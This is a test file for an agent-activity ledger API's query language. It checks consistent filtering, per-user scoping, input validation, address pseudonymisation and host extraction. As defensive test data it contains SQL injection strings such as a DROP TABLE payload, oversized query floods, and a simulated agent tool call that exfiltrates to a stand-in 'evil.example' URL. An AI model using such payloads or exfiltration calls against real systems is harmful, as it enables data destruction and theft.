import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createKey } from '../helpers/agents-api.js';
import { startServerProcess, type ServerProcess } from '../helpers/server-process.js';

/**
 * The `query` parameter over HTTP (issue 20): the same expression on the
 * ledger, its export, stats and runs; a user key's scope whatever the query
 * says; errors that name `query` and the column; the spellings of a hostile
 * caller. Run `npm run build` first.
 */
let server: ServerProcess;
const keys: Record<string, string> = {};
const NOW_NS = BigInt(Date.now() - 60_000) * 1_000_000n;

const str = (key: string, v: string) => ({ key, value: { stringValue: v } });
const num = (key: string, v: number) => ({ key, value: { doubleValue: v } });

async function ingest(key: string, user: string, calls: Array<{ tool: string; to: string; cost: number }>): Promise<void> {
  const trace = `${user === 'alice' ? 'a' : 'b'}${'0'.repeat(31)}`;
  const spans = calls.map((c, i) => ({
    traceId: trace,
    spanId: `${'1'.repeat(15)}${i}`,
    name: c.tool,
    startTimeUnixNano: String(NOW_NS + BigInt(i) * 1_000_000n),
    endTimeUnixNano: String(NOW_NS + BigInt(i) * 1_000_000n + 5_000_000n),
    attributes: [
      str('gen_ai.operation.name', 'execute_tool'),
      str('gen_ai.tool.name', c.tool),
      str('gen_ai.tool.call.arguments', JSON.stringify({ to: [c.to], subject: 'invoice' })),
      num('ledger.cost_usd', c.cost),
    ],
  }));
  const body = { resourceSpans: [{ resource: { attributes: [str('service.name', 'svc'), str('gen_ai.agent.id', `agent-${user}`)] }, scopeSpans: [{ scope: { name: 't' }, spans }] }] };
  const res = await fetch(server.otlpUrl, { method: 'POST', body: JSON.stringify(body), headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${key}` } });
  expect(res.status).toBe(200);
}

// a leading wildcard needs a time range (tested below): every other request gives one too
const SINCE = new Date(Date.now() - 3_600_000).toISOString();

const get = async (key: string, path: string, params: Record<string, string> = {}, since = true) => {
  const res = await fetch(`${server.apiUrl}${path}?${new URLSearchParams(since ? { start_date: SINCE, ...params } : params)}`, { headers: { Authorization: `Bearer ${key}` } });
  const text = await res.text();
  let body: any = text;
  try {
    body = JSON.parse(text);
  } catch {
    /* JSONL or CSV */
  }
  return { status: res.status, body };
};

beforeAll(async () => {
  server = await startServerProcess();
  keys.org = createKey(server, 'acme', 'read,ingest,export');
  keys.alice = createKey(server, 'acme', 'read,ingest,export', 'user', 'alice');
  keys.bob = createKey(server, 'acme', 'read,ingest', 'user', 'bob');
  await ingest(keys.alice, 'alice', [
    { tool: 'send_email', to: 'ops@corp.example', cost: 0.1 },
    { tool: 'send_email', to: 'leak@outside.example', cost: 0.7 },
    { tool: 'lookup', to: 'nobody', cost: 0.01 },
  ]);
  await ingest(keys.bob, 'bob', [{ tool: 'send_email', to: 'leak@outside.example', cost: 0.9 }]);
  for (let i = 0; i < 100 && (await get(keys.org, '/api/v1/ledger', { page_size: '1' }, false)).body.count !== 4; i++) await new Promise((r) => setTimeout(r, 100));
}, 60_000);

afterAll(async () => {
  await server?.stop();
});

describe('the query language through the API', () => {
  const expr = 'action_name:send_email AND inputs.to:leak@outside.example AND cost_usd >= 0.5';

  it('answers one expression alike on the ledger, its export, stats and runs', async () => {
    const ledger = await get(keys.org, '/api/v1/ledger', { query: expr });
    expect(ledger.status).toBe(200);
    expect(ledger.body.data.map((e: any) => e.cost_usd).sort()).toEqual([0.7, 0.9]);
    const stats = await get(keys.org, '/api/v1/ledger/stats', { query: expr });
    expect(stats.body.total_actions).toBe(2);
    const exported = await get(keys.org, '/api/v1/ledger/export', { query: expr, format: 'jsonl' });
    expect(exported.status).toBe(200);
    expect(String(exported.body).trim().split('\n')).toHaveLength(2);
    const runs = await get(keys.org, '/api/v1/runs', { query: expr });
    expect(runs.body.count).toBe(2);
    // combined with the seed's own parameters
    expect((await get(keys.org, '/api/v1/ledger', { query: expr, agent_id: 'agent-bob' })).body.count).toBe(1);
    expect((await get(keys.org, '/api/v1/ledger', { query: 'NOT action_name:send_email' })).body.count).toBe(1);
  });

  it("never widens a user key's view, whatever the query names", async () => {
    expect((await get(keys.alice, '/api/v1/ledger', { query: 'user_id:bob' })).body.count).toBe(0);
    expect((await get(keys.alice, '/api/v1/ledger', { query: 'user_id:bob OR user_id:alice' })).body.count).toBe(3);
    expect((await get(keys.alice, '/api/v1/ledger', { query: expr })).body.count).toBe(1);
    expect((await get(keys.alice, '/api/v1/ledger/stats', { query: 'user_id:*' })).body.total_actions).toBe(3);
  });

  it('answers a bad expression with 400 VALIDATION_ERROR naming query and the column, never 500', async () => {
    const bad = await get(keys.org, '/api/v1/ledger', { query: 'action_name:send_email AND (cost_usd >= ' });
    expect(bad.status).toBe(400);
    expect(bad.body.error?.code ?? bad.body.code).toBe('VALIDATION_ERROR');
    expect(JSON.stringify(bad.body)).toMatch(/query/);
    expect(JSON.stringify(bad.body)).toMatch(/column \d+/);
    expect((await get(keys.org, '/api/v1/ledger', { query: 'no_such_field:x' })).status).toBe(400);
    for (const hostile of ["name:'; DROP TABLE entries; --", 'inputs.to:"\\" OR 1=1', '('.repeat(5000), 'a:b '.repeat(3000), 'name:%_*\u0000']) {
      const res = await get(keys.org, '/api/v1/ledger', { query: hostile });
      // 431: a URL past the HTTP server's header limit never reaches the parser
      expect([200, 400, 431]).toContain(res.status);
    }
    for (const path of ['/api/v1/ledger/export', '/api/v1/ledger/stats', '/api/v1/runs', '/api/v1/ledger/stats/timeseries']) {
      expect((await get(keys.org, path, { query: 'cost_usd >= ', format: 'jsonl' })).status).toBe(400);
    }
  });

  it('refuses a leading wildcard over the whole ledger, and takes it inside a time range', async () => {
    const open = await get(keys.org, '/api/v1/ledger', { query: 'inputs.subject:*voice' }, false);
    expect(open.status).toBe(400);
    expect(JSON.stringify(open.body)).toMatch(/time range|start_date/);
    expect((await get(keys.org, '/api/v1/ledger', { query: 'inputs.subject:*voice' })).body.count).toBe(4);
    expect((await get(keys.org, '/api/v1/ledger', { query: 'timestamp >= now-1h AND inputs.subject:*voi*' }, false)).body.count).toBe(4);
  });

  it('finds a pseudonymised address by its clear value (quoted or not), never stores or matches the clear text, and refuses part of one', async () => {
    const stored = (await get(keys.org, '/api/v1/ledger', { action_name: 'send_email', page_size: '10' })).body.data;
    expect(JSON.stringify(stored)).not.toContain('@outside.example');
    expect((await get(keys.org, '/api/v1/ledger', { query: 'inputs.to:leak@outside.example' })).body.count).toBe(2);
    expect((await get(keys.org, '/api/v1/ledger', { query: 'inputs.to:"leak@outside.example"' })).body.count).toBe(2);
    expect((await get(keys.org, '/api/v1/ledger', { query: 'leak@outside.example' })).body.count).toBe(2);
    expect((await get(keys.org, '/api/v1/ledger', { query: 'NOT inputs.to:leak@outside.example AND action_name:send_email' })).body.count).toBe(1);
    const partial = await get(keys.org, '/api/v1/ledger', { query: 'inputs.to:*@outside.example' });
    expect(partial.status).toBe(400);
    expect(JSON.stringify(partial.body)).toMatch(/pseudonym/);
  });

  it('pivots on an extracted entity: a tool call mentioning a host is found by `entities.host:…`', async () => {
    // alice's agent fetches an outside URL (its own trace, written last: the counts above do not see it)
    const span = {
      traceId: `c${'0'.repeat(31)}`, spanId: '2'.repeat(16), name: 'http_get',
      startTimeUnixNano: String(NOW_NS), endTimeUnixNano: String(NOW_NS + 5_000_000n),
      attributes: [str('gen_ai.operation.name', 'execute_tool'), str('gen_ai.tool.name', 'http_get'),
        str('gen_ai.tool.call.arguments', JSON.stringify({ url: 'https://Evil.Example/exfil?d=1', note: 'copy to leak@outside.example' }))],
    };
    const body = { resourceSpans: [{ resource: { attributes: [str('service.name', 'svc'), str('gen_ai.agent.id', 'agent-alice')] }, scopeSpans: [{ scope: { name: 't' }, spans: [span] }] }] };
    const res = await fetch(server.otlpUrl, { method: 'POST', body: JSON.stringify(body), headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${keys.alice}` } });
    expect(res.status).toBe(200);
    const count = async (query: string, key = keys.org) => (await get(key, '/api/v1/ledger', { query })).body.count;
    for (let i = 0; i < 100 && (await count('action_name:http_get')) !== 1; i++) await new Promise((r) => setTimeout(r, 100));

    const found = await get(keys.org, '/api/v1/ledger', { query: 'entities.host:evil.example' });
    expect(found.status).toBe(200);
    expect(found.body.data.map((e: any) => [e.name, e.entities.host])).toEqual([['http_get', ['evil.example']]]);
    // typed as a person would: case, a trailing dot, the URL quoted or escaped, wildcards
    expect(await count('entities.host:EVIL.Example.')).toBe(1);
    expect(await count('entities.url:"https://evil.example/exfil?d=1"')).toBe(1);
    expect(await count('entities.url:https\\://evil.example/*')).toBe(1);
    expect(await count('entities.host:evil.*')).toBe(1);
    expect(await count('entities.host:*.EXAMPLE')).toBe(1);
    expect(await count('entities.host:evil.example AND agent_id:agent-alice AND NOT outcome:error')).toBe(1);
    expect(await count('NOT entities.host:* AND action_name:send_email')).toBe(3);
    // the address is pseudonymised at ingest: found by its clear value, in the tool call and the three e-mails
    expect(found.body.data[0].entities.email).toEqual([expect.stringMatching(/^\[EMAIL:[0-9a-f]{16}\]$/)]);
    expect(await count('entities.email:leak@outside.example')).toBe(3);
    expect(await count('entities.email:Leak@Outside.Example AND entities.host:evil.example')).toBe(1);
    // a user key sees its own entries only
    expect(await count('entities.host:evil.example', keys.bob)).toBe(0);
    expect(await count('entities.email:leak@outside.example', keys.bob)).toBe(1);

    const unknown = await get(keys.org, '/api/v1/ledger', { query: 'entities.domain:evil.example' });
    expect(unknown.status).toBe(400);
    expect(JSON.stringify(unknown.body)).toMatch(/unknown entity type `domain`.*entities\.host/);
    const open = await get(keys.org, '/api/v1/ledger', { query: 'entities.host:*.example' }, false);
    expect(open.status).toBe(400);
    expect(JSON.stringify(open.body)).toMatch(/time range/);
    for (const path of ['/api/v1/ledger/stats', '/api/v1/runs']) {
      expect((await get(keys.org, path, { query: 'entities.host:evil.example' })).status).toBe(200);
    }
    expect((await get(keys.org, '/api/v1/ledger/stats', { query: 'entities.host:evil.example' })).body.total_actions).toBe(1);
  });
});
